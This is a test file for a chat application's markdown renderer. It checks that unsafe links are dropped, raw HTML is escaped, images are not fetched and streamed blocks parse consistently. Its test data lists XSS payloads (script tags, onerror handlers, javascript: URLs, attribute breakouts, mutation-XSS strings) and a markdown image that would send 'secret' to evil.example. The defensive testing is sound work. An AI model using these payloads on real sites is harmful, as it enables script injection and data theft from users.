import fc from 'fast-check';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { BlockSplitter } from './blocks.ts';
import { highlight } from './highlight.ts';
import { blockRenderer, safeHref } from './markdown.ts';

const render = blockRenderer(null);
const html = (text: string): string => marked.lexer(text).map(render).join('');
const tags = (text: string): string[] =>
  [...html(text).matchAll(/<([a-z0-9]+)[\s>]/g)].map((match) => match[1] ?? '');

const HREFS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  'blob:https://example.com/1',
  '//evil.example/x',
  '/ws',
  '#composer',
  'https://',
];

describe('links', () => {
  it.each(HREFS)('%j leads nowhere', (href) => {
    expect(safeHref(href)).toBeNull();
    expect(html(`[text](<${href.replaceAll('\n', '')}>)`)).not.toContain('href');
  });

  it('http, https and mailto open beside the chat, without a way back', () => {
    expect(html('[NetBox](https://netbox.dev/a?b=c&d=e)')).toContain(
      '<a href="https://netbox.dev/a?b=c&amp;d=e" target="_blank" rel="noopener noreferrer">NetBox</a>',
    );
    expect(safeHref('mailto:noc@example.com')).toBe('mailto:noc@example.com');
  });

  it('an attribute cannot be broken out of', () => {
    expect(html('[x](<https://e.example/"onmouseover="alert(1)>)')).not.toMatch(/"\s*onmouseover/);
    expect(html('[x](https://e.example "title\\" onfocus=alert(1)")')).not.toContain('onfocus');
  });
});

describe('hostile text', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    'a <b onclick="alert(1)">b</b>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{display:none}</style>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="https://evil.example"><input></form>',
    '<!--<img src=x onerror=alert(1)>-->',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ])('%s is shown as what it is', (text) => {
    expect(tags(text).every((tag) => tag === 'p')).toBe(true);
    expect(html(text)).toContain('&lt;');
  });

  it('images are not fetched: their address is a link, if it is one at all', () => {
    expect(html('![leak](https://evil.example/?q=secret)')).toBe(
      '<p><a href="https://evil.example/?q=secret" target="_blank" rel="noopener noreferrer">Image: leak</a></p>\n',
    );
    expect(tags('![x](javascript:alert(1))')).toEqual(['p']);
  });

  it('a language name is text', () => {
    expect(html('```"><img/src=x>\ncode\n```')).not.toContain('<img');
  });

  it('code stays code', () => {
    expect(html('```html\n<script>alert(1)</script>\n```')).not.toContain('<script');
    expect(html('`<b>`')).toContain('<code>&lt;b&gt;</code>');
    expect(highlight('<script>alert("1")</script>', 'html')).not.toContain('<script');
  });

  it('makes no element outside the few that markdown needs, whatever comes', () => {
    const allowed = new Set(
      'p br hr h2 h3 strong em del code pre blockquote ul ol li a table thead tbody tr th td div span button'.split(
        ' ',
      ),
    );
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '```\n',
      '[',
      '](',
      ')',
      '!',
      '|',
      '\n',
      '\n\n',
      '- ',
      '# ',
      '*',
      'onload=',
      'javascript:',
      'https://a.b',
      'img src=x',
      'x',
      '&lt;',
      '\\',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        expect(tags(pieces.join('')).filter((tag) => !allowed.has(tag))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });
});

describe('what markdown becomes', () => {
  it('headings stand below those of the page', () => {
    expect(tags('# One\n\n###### Six')).toEqual(['h2', 'h3']);
  });

  it('tables can scroll and keep their alignment', () => {
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td class="right">2</td>');
  });

  it('code has its language and a copy button', () => {
    expect(html('```bash\nls\n```')).toContain(
      '<span>bash</span><button type="button" class="copy">Copy</button>',
    );
  });

  it('known languages are coloured, unknown ones are not', () => {
    expect(highlight('{"a": 1}', 'json')).toContain('hljs-attr');
    expect(highlight('x', 'klingon')).toBeNull();
  });
});

describe('blocks while streaming', () => {
  const TEXT =
    '# Title\n\nOne *two*\n\n- a\n- b\n\n```js\nlet x = 1;\n\nlet y;\n```\n\n| a |\n|---|\n| 1 |\n\nEnd [x][1]\n\n[1]: https://a.example\n';

  it('parse only the last block again: those before it stay the same objects', () => {
    const splitter = new BlockSplitter();
    const before = splitter.update('One\n\nTwo\n\nThr', true);
    const later = splitter.update('One\n\nTwo\n\nThree\n\nFour', true);
    expect(later.slice(0, 2).map((block, index) => block === before[index])).toEqual([true, true]);
    expect(before.map((block) => block.done)).toEqual([true, true, false]);
  });

  it('end as if the text had come at once, wherever it was cut', () => {
    const whole = new BlockSplitter().update(TEXT, false).map((block) => render(block.token));
    fc.assert(
      fc.property(fc.array(fc.nat(TEXT.length), { maxLength: 15 }), (cuts) => {
        const splitter = new BlockSplitter();
        for (const cut of cuts.toSorted((a, b) => a - b)) splitter.update(TEXT.slice(0, cut), true);
        expect(splitter.update(TEXT, false).map((block) => render(block.token))).toEqual(whole);
      }),
    );
  });

  it('hold every character of the text at every moment', () => {
    fc.assert(
      fc.property(fc.array(fc.nat(TEXT.length), { maxLength: 15 }), (cuts) => {
        const splitter = new BlockSplitter();
        for (const cut of cuts.toSorted((a, b) => a - b)) {
          const text = TEXT.slice(0, cut);
          const raw = splitter
            .update(text, true)
            .map((block) => block.token.raw)
            .join('');
          expect(raw.replaceAll(/\s/g, '')).toBe(text.replaceAll(/\s/g, ''));
        }
      }),
    );
  });

  it('start anew when another text comes', () => {
    const splitter = new BlockSplitter();
    splitter.update('One\n\nTwo', true);
    expect(splitter.update('Other', true).map((block) => block.token.raw)).toEqual(['Other']);
  });
});
